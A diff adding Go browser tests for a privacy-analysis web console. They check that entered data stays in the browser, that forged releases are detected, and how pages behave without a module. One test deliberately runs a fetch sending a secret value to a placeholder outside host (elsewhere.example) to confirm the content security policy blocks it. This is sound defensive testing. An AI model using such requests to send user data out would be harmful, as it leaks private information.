@@ -1,0 +1,217 @@
+package console
+
+import (
+	"context"
+	"encoding/json"
+	"fmt"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/chromedp/chromedp"
+	"github.com/chromedp/chromedp/kb"
+
+	"github.com/confetti-dp/confetti/internal/wire"
+	"github.com/confetti-dp/confetti/plan/author"
+	"github.com/confetti-dp/confetti/web/studio"
+)
+
+// module serves what pages compute with; it is made once for all tests.
+var module = sync.OnceValues(func() (http.Handler, error) { return webstudio.Handler(context.Background()) })
+
+// recorder keeps all that a server was asked, bodies included.
+type recorder struct {
+	http.Handler
+	mu  sync.Mutex
+	all []string
+}
+
+func (c *recorder) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	body, _ := io.ReadAll(r.Body)
+	r.Body = io.NopCloser(strings.NewReader(string(body)))
+	c.mu.Lock()
+	c.all = append(c.all, r.Method+" "+r.URL.String()+" "+strings.Join(r.Header["Referer"], "")+" "+string(body))
+	c.mu.Unlock()
+	c.Handler.ServeHTTP(w, r)
+}
+
+// asked is what came since it was last asked for.
+func (c *recorder) asked() []string {
+	c.mu.Lock()
+	defer c.mu.Unlock()
+	all := c.all
+	c.all = nil
+	return all
+}
+
+// recorded serves a console with the module, which answers to its own name.
+func recorded(t *testing.T, o Options) (*recorder, string) {
+	t.Helper()
+	kept := &recorder{}
+	s := httptest.NewServer(kept)
+	t.Cleanup(s.Close)
+	o.Studio, o.Hosts = module, []string{s.Listener.Addr().String()}
+	c, err := New(o)
+	if err != nil {
+		t.Fatal(err)
+	}
+	kept.Handler = c
+	return kept, s.URL
+}
+
+// typed has a field hold a text, as by hand.
+func typed(field, text, event string) chromedp.Action[chromedp.Void] {
+	return chromedp.Evaluate[chromedp.Void](`{ const e = document.querySelector("` + field + `"); e.value = ` + "`" + text + "`" + `; e.dispatchEvent(new Event("` + event + `", {bubbles: true})); }`)
+}
+
+// until waits until an expression of the page is true.
+func until(expression string) chromedp.Action[chromedp.Void] {
+	return func(ctx context.Context, target *chromedp.Target) (done chromedp.Void, err error) {
+		for {
+			if is, err := chromedp.Evaluate[bool](expression)(ctx, target); is || err != nil {
+				return done, err
+			}
+			select {
+			case <-ctx.Done():
+				return done, fmt.Errorf("%w: it is not so that %s", ctx.Err(), expression)
+			case <-time.After(100 * time.Millisecond):
+			}
+		}
+	}
+}
+
+// drawnWhole says that a whole drawing is shown.
+const drawnWhole = `document.getElementById("plan")?.href !== "" && document.getElementById("working").textContent === "" && !document.getElementById("result").hidden`
+
+// A question is made of values that do not leave the browser: no request has any of them, and
+// after they are there the module is all that is asked for.
+func TestAQuestionIsMadeInTheBrowser(t *testing.T) {
+	ctx := browser(t)
+	s, _, _, _ := several(t)
+	kept, url := recorded(t, Options{Analyzer: base, Public: s})
+	secrets := []string{"zanzibar", "quagga", "okapi"}
+	var lines strings.Builder
+	lines.WriteString("animal\tweight\n")
+	for i := range 60 {
+		fmt.Fprintf(&lines, "zanzibar\t%d.125\nquagga\t977.5\nquagga\t3.25\nokapi\t41.125\nquagga\t\n", i)
+	}
+	text := lines.String()
+	for _, screen := range screens {
+		b := open(t, ctx, screen.width, screen.height, screen.phone)
+		b.do(chromedp.Navigate(url + "/new"))
+		b.look(t, "new question, nothing yet, "+screen.name)
+		kept.asked()
+		b.do(typed("#values", text, "input"), until(drawnWhole))
+		first := ask(b, chromedp.Text("#answer"))
+		if !strings.Contains(first, "“quagga”, which 60.0\u00a0% of your rows hold") {
+			t.Errorf("the answer reads %q", first)
+		}
+		// By keys alone: the slider of people goes down, and less is known.
+		b.do(chromedp.Focus("#people"), chromedp.SendKeys("#people", strings.Repeat(kb.ArrowLeft, 8)))
+		b.do(until(drawnWhole + ` && document.getElementById("answer").textContent !== ` + "`" + first + "`"))
+		// Numbers have steps, and empty cells a meaning.
+		b.do(typed("#column", "1", "change"), until(drawnWhole+` && document.getElementById("chart").textContent.includes(" to ")`))
+		if kind := ask(b, chromedp.Evaluate[string](`document.getElementById("kind").value`)); kind != "buckets" {
+			t.Errorf("numbers are guessed to be %q", kind)
+		}
+		b.do(typed("#column", "0", "change"), typed("#title", "Which animal?", "change"), until(drawnWhole+` && document.getElementById("toml").textContent.includes("Which animal?")`))
+		for _, dark := range []bool{false, true} {
+			b.darken(t, dark)
+			name := "new question, " + screen.name
+			if dark {
+				name += ", dark"
+			}
+			b.look(t, name)
+		}
+		p, err := author.Parse([]byte(ask(b, chromedp.Evaluate[string](`document.getElementById("toml").textContent`))))
+		if err != nil || p.Title != "Which animal?" || len(p.Question.Histogram.Attributes[0].Values) != 3 {
+			t.Errorf("the plan is %+v, %v", p, err)
+		}
+		for _, request := range kept.asked() {
+			if !strings.HasPrefix(request, "GET /studio/") {
+				t.Errorf("asked for while values were there: %s", request)
+			}
+			for _, secret := range append(secrets, "977.5", "41.125") {
+				if strings.Contains(request, secret) {
+					t.Errorf("a request holds a value: %s", request)
+				}
+			}
+		}
+		// The page could not send them if it tried, nor could its worker.
+		sent := ask(b, chromedp.Evaluate[string](`Promise.allSettled([fetch("/?zanzibar"), fetch("https://elsewhere.example/?zanzibar")]).then(all => all.map(a => a.status).join(" "))`, chromedp.EvalAwaitPromise))
+		refused := b.found()
+		if sent != "rejected rejected" || len(refused) < 2 {
+			t.Errorf("a page that sends: %s, %q", sent, refused)
+		}
+		for _, request := range kept.asked() {
+			t.Errorf("a page that sends has sent: %s", request)
+		}
+	}
+	answer, err := http.Get(url + "/studio/worker.js")
+	if err != nil {
+		t.Fatal(err)
+	}
+	answer.Body.Close()
+	if policy := answer.Header.Get("Content-Security-Policy"); !strings.Contains(policy, "connect-src "+strings.TrimPrefix(url, "http://")+moduleFile+";") {
+		t.Errorf("the worker may ask for more than its module: %s", policy)
+	}
+}
+
+// A browser finds what does not hold of a release: nobody signed for these batches, and one was
+// changed after its numbers were promised.
+func TestAReleaseIsVerifiedInTheBrowser(t *testing.T) {
+	ctx := browser(t)
+	s, _, crowds, _ := several(t)
+	_, url := recorded(t, Options{Analyzer: base, Public: s})
+	b := open(t, ctx, 390, 844, true)
+	verified := func(name string) string {
+		b.do(chromedp.Navigate(url+"/releases/"+crowds), until(`document.readyState === "complete"`), chromedp.Click("#verify button"), chromedp.WaitVisible("#verdict"))
+		b.look(t, "verified, "+name)
+		return ask(b, chromedp.Evaluate[string](`document.getElementById("verdict").textContent + "\n" + [...document.querySelectorAll("#checks li")].map(l => l.innerText.replaceAll("\n", " ")).join("\n")`))
+	}
+	if text := verified("simulated"); !strings.Contains(text, "1 of 5 checks did not hold") || !strings.Contains(text, "✗ receipts Does not hold") || !strings.Contains(text, "✓ signature") {
+		t.Errorf("of a release without receipts it says %s", text)
+	}
+	hash, err := wire.ParsePlanName(crowds)
+	if err != nil {
+		t.Fatal(err)
+	}
+	at := base + wire.ReleasePath(hash, "json")
+	var forged map[string]any
+	if err := json.Unmarshal(s.answers[at], &forged); err != nil {
+		t.Fatal(err)
+	}
+	guarantee := forged["guarantees"].([]any)[2].(map[string]any)["guarantee"].(map[string]any)
+	guarantee["epsilon"] = guarantee["epsilon"].(float64) / 10
+	text, err := json.Marshal(forged)
+	if err != nil {
+		t.Fatal(err)
+	}
+	s.mu.Lock()
+	s.answers[at] = text
+	s.mu.Unlock()
+	if text := verified("forged"); !strings.Contains(text, "✗ guarantees") {
+		t.Errorf("of a forged release it says %s", text)
+	}
+}
+
+// Where the module is not at hand the pages say so, and what does the same.
+func TestPagesWithoutTheModule(t *testing.T) {
+	s, _, crowds, _ := several(t)
+	_, url := start(t, Options{Analyzer: base, Public: s, Studio: func() (http.Handler, error) { return nil, io.ErrUnexpectedEOF }})
+	for path, want := range map[string]string{"/new": "confetti collect simulate", "/studio/index.js": "is not at hand", "/releases/" + crowds: "confetti release verify " + base} {
+		answer, err := http.Get(url + path)
+		if err != nil {
+			t.Fatal(err)
+		}
+		text, err := io.ReadAll(answer.Body)
+		answer.Body.Close()
+		if err != nil || !strings.Contains(string(text), want) || strings.Contains(string(text), "EOF") {
+			t.Errorf("%s: %v, %s", path, err, text)
+		}
+	}
+}
